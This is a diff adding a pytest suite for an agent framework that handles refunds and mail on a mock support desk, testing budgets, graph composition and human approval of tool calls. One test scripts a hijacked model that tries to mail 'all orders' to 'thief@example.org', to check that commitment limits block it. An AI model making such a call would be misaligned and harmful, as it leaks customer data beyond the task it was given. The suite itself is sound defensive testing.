@@ -1,0 +1,252 @@
+"""Agents over the user's own tools, driven by every method."""
+
+import asyncio
+from pathlib import Path
+from typing import Any, TypedDict
+
+import pytest
+from langchain_core.messages import AIMessage
+from langgraph.checkpoint.memory import InMemorySaver
+from langgraph.graph import END, START, StateGraph
+from langgraph.types import Command
+from pydantic import BaseModel
+from support_desk import CONDITIONS, GOAL, SCRIPT, Desk, mind
+
+from certigraph import LimitReached, Limits, Tools
+from certigraph.adapters.protocols import Budget
+from certigraph.graphs.agent import METHODS, AgentGraph, agent
+from certigraph.graphs.sdp import builder
+from certigraph.nodes.sdp import always_pass
+from certigraph.state.records import Fault
+
+REPEATABLE: Any = {"look_up": "repeatable"}
+
+
+@pytest.fixture
+def desk(tmp_path: Path) -> Desk:
+    return Desk(tmp_path / "desk.sqlite")
+
+
+def build(method: Any, desk: Desk, **options: Any) -> AgentGraph:
+    settings = {"model": mind(), "effects": REPEATABLE, "checkpointer": InMemorySaver(), **options}
+    return agent(method, tools=desk.tools, **settings)
+
+
+def thread(name: str = "1") -> Any:
+    return {"configurable": {"thread_id": name}}
+
+
+@pytest.mark.parametrize("method", METHODS)
+def test_every_method_does_the_work_once_and_answers_with_a_message(method: Any, desk: Desk) -> None:
+    result = build(method, desk).invoke({"messages": [("user", GOAL)]}, thread())
+    assert desk.rows("refunds") == [(17, 49.9)]
+    assert len(desk.rows("mails")) == 1
+    assert isinstance(result["messages"][-1], AIMessage)
+    assert result["messages"][-1].text
+    assert result["ending"] in ("goal", "finished")
+
+
+def test_sdp_returns_what_it_certified(desk: Desk) -> None:
+    result = build("sdp", desk).invoke({"goal": GOAL}, thread())
+    certified = [target.text for certificate in result["certificates"] for target in certificate.targets]
+    assert certified[: len(CONDITIONS)] == CONDITIONS
+    assert result["ending"] == "goal"
+
+
+def test_async_invocation_without_a_checkpointer(desk: Desk) -> None:
+    graph = build("react", desk, checkpointer=None)
+    result = asyncio.run(graph.ainvoke({"goal": GOAL}))
+    assert result["ending"] == "finished"
+    assert len(desk.rows("refunds")) == 1
+
+
+def test_a_second_message_on_the_thread_is_a_task_of_its_own(desk: Desk) -> None:
+    graph = build("react", desk)
+    graph.invoke({"messages": [("user", GOAL)]}, thread())
+    result = graph.invoke({"messages": [("user", GOAL)]}, thread())
+    assert len(desk.rows("refunds")) == 2
+    assert [message.type for message in result["messages"]] == ["human", "ai", "human", "ai"]
+
+
+class Refunded(BaseModel):
+    """Answer in a form of the user's."""
+
+    answer: str
+    order: int = 17
+
+
+def test_the_answer_has_the_form_that_was_given(desk: Desk) -> None:
+    for method in ("sdp", "react"):
+        result = build(method, desk, response_format=Refunded).invoke({"goal": GOAL}, thread(method))
+        assert isinstance(result["structured_response"], Refunded)
+
+
+class Ticket(TypedDict):
+    """Further state."""
+
+    ticket: str
+
+
+def test_further_state_passes_through(desk: Desk) -> None:
+    graph = build("sdp", desk, state_schema=Ticket)
+    given: Any = {"goal": GOAL, "ticket": "T-1"}
+    graph.invoke({"goal": GOAL}, thread())
+    graph.update_state(thread(), {"ticket": given["ticket"]})
+    assert graph.get_state(thread()).values["ticket"] == "T-1"
+
+
+def test_operators_are_exchanged_by_slot(desk: Desk) -> None:
+    result = build("sdp", desk, validate=always_pass).invoke({"goal": GOAL}, thread())
+    assert result["certificates"][0].decided_by == ""
+    with pytest.raises(TypeError, match="validate"):
+        build("sdp", desk, validat=always_pass)
+
+
+def test_a_node_can_be_inserted_between_two_others() -> None:
+    graph = builder().insert("log", lambda state: {}, between=("realize", "act")).compile()
+    edges = {(edge.source, edge.target) for edge in graph.get_graph().edges}
+    assert {("realize", "log"), ("log", "act")} <= edges
+    assert ("realize", "act") not in edges
+    with pytest.raises(ValueError, match="replan"):
+        builder().insert("log", lambda state: {}, between=("act", "replan"))
+
+
+def test_an_agent_is_a_node_of_a_larger_graph(desk: Desk) -> None:
+    class Outer(TypedDict, total=False):
+        messages: Any
+        done: bool
+
+    outer = StateGraph(Outer)
+    outer.add_node("agent", build("sdp", desk, checkpointer=None))
+    outer.add_node("after", lambda state: {"done": True})
+    outer.add_edge(START, "agent")
+    outer.add_edge("agent", "after")
+    outer.add_edge("after", END)
+    result = outer.compile(checkpointer=InMemorySaver()).invoke({"messages": [("user", GOAL)]}, thread())
+    assert result["done"]
+    assert len(desk.rows("refunds")) == 1
+
+
+def test_input_without_a_request_is_refused(desk: Desk) -> None:
+    with pytest.raises(Fault, match="messages"):
+        build("react", desk).invoke({"messages": []}, thread())
+
+
+def test_unknown_names_are_refused_with_the_known_ones(desk: Desk) -> None:
+    with pytest.raises(ValueError, match="react"):
+        build("nothing", desk)
+    with pytest.raises(ValueError, match="look_up"):
+        build("react", desk, interrupt_on={"nothing": True})
+    with pytest.raises(ValueError, match="look_up"):
+        build("react", desk, effects={"nothing": "repeatable"})
+
+
+def test_a_spent_budget_stops_the_run_and_a_larger_one_continues_it(desk: Desk) -> None:
+    graph = build("react", desk, budget=Budget(calls=2))
+    with pytest.raises(LimitReached):
+        graph.invoke({"goal": GOAL}, thread())
+    larger: Any = {"budget": {"calls": 50}}
+    result = graph.invoke(None, thread(), context=larger)
+    assert result["ending"] == "finished"
+    assert len(desk.rows("refunds")) == 1
+
+
+def test_several_episodes_need_a_reset(desk: Desk) -> None:
+    with pytest.raises(Fault, match="trials"):
+        build("step", desk, limits=Limits(trials=3)).invoke({"goal": GOAL}, thread())
+
+
+# Commitments.
+
+
+def test_calls_beyond_the_commitment_are_refused_and_the_run_goes_on(desk: Desk) -> None:
+    hijacked = [SCRIPT[0], ("send_mail", {"to": "thief@example.org", "text": "all orders"})]
+
+    class Hijacked(type(mind(hijacked).responder)):  # type: ignore[misc]
+        def __call__(self, prompt: str, schema: Any) -> Any:
+            answer = super().__call__(prompt, schema)
+            return {**answer, "tools": ["look_up"]} if "tools" in schema.get("properties", {}) else answer
+
+    for method in ("react", "sdp"):
+        model = mind().model_copy(update={"responder": Hijacked(hijacked)})
+        graph = build(method, desk, model=model, limits=Limits(steps=6))
+        graph.invoke({"goal": GOAL}, thread(method))
+        assert desk.rows("mails") == []
+    model = mind().model_copy(update={"responder": Hijacked(hijacked)})
+    build("react", desk, model=model, commitments=None).invoke({"goal": GOAL}, thread("free"))
+    assert len(desk.rows("mails")) == 1
+
+
+# Approval.
+
+
+def approving(desk: Desk, method: str = "sdp") -> AgentGraph:
+    return build(method, desk, interrupt_on={"refund": True, "send_mail": {"allowed_decisions": ["approve", "reject"]}})
+
+
+@pytest.mark.parametrize("method", METHODS)
+def test_calls_wait_for_approval_in_langchains_form(method: Any, desk: Desk) -> None:
+    graph = approving(desk, method)
+    waiting = graph.invoke({"goal": GOAL}, thread())
+    question = waiting["__interrupt__"][0].value
+    assert question["action_requests"][0]["name"] == "refund"
+    assert question["action_requests"][0]["args"] == {"order": 17, "amount": 49.9}
+    assert question["review_configs"][0]["allowed_decisions"] == ["approve", "edit", "reject"]
+    assert desk.rows("refunds") == []
+    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), thread())
+    result = graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), thread())
+    assert "__interrupt__" not in result
+    assert (len(desk.rows("refunds")), len(desk.rows("mails"))) == (1, 1)
+
+
+def test_edited_arguments_are_what_runs(desk: Desk) -> None:
+    graph = approving(desk)
+    graph.invoke({"goal": GOAL}, thread())
+    edited = {"type": "edit", "edited_action": {"name": "refund", "args": {"order": 17, "amount": 10}}}
+    graph.invoke(Command(resume={"decisions": [edited]}), thread())
+    assert desk.rows("refunds") == [(17, 10)]
+
+
+def test_a_rejected_call_is_not_made_and_its_reason_is_observed(desk: Desk) -> None:
+    graph = approving(desk, "react")
+    graph.invoke({"goal": GOAL}, thread())
+    reject = {"type": "reject", "message": "order 17 was refunded yesterday"}
+    graph.invoke(Command(resume={"decisions": [reject]}), thread())
+    assert desk.rows("refunds") == []
+    turn = graph.get_state(thread()).values["turns"][-1]
+    assert "refunded yesterday" in turn.observation
+    assert not turn.accepted
+
+
+@pytest.mark.parametrize(
+    "answer", ["approve it", {"decisions": []}, {"decisions": [{"type": "edit"}]}, {"decisions": [{"type": "maybe"}]}]
+)
+def test_a_decision_that_cannot_be_used_can_be_given_again(answer: Any, desk: Desk) -> None:
+    graph = approving(desk)
+    graph.invoke({"goal": GOAL}, thread())
+    again = graph.invoke(Command(resume=answer), thread())
+    assert again["__interrupt__"][0].value["problem"]
+    assert desk.rows("refunds") == []
+    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), thread())
+    assert len(desk.rows("refunds")) == 1
+
+
+def test_approvals_ask_the_model_nothing_again(desk: Desk) -> None:
+    def count_calls(interrupt_on: Any) -> int:
+        graph, name = build("react", desk, interrupt_on=interrupt_on), str(bool(interrupt_on))
+        result = graph.invoke({"goal": GOAL}, thread(name))
+        while "__interrupt__" in result:
+            result = graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), thread(name))
+        return int(graph.get_state(thread(name)).values["spent"].calls)
+
+    assert count_calls({"refund": True, "send_mail": True}) == count_calls(None)
+
+
+def test_tools_is_a_world_of_its_own() -> None:
+    tools = Tools([lambda_tool], cases=["do it", "do it again"])
+    assert [task.id for task in tools.tasks()] == ["1", "2"]
+
+
+def lambda_tool(text: str) -> str:
+    """Repeat a text."""
+    return text
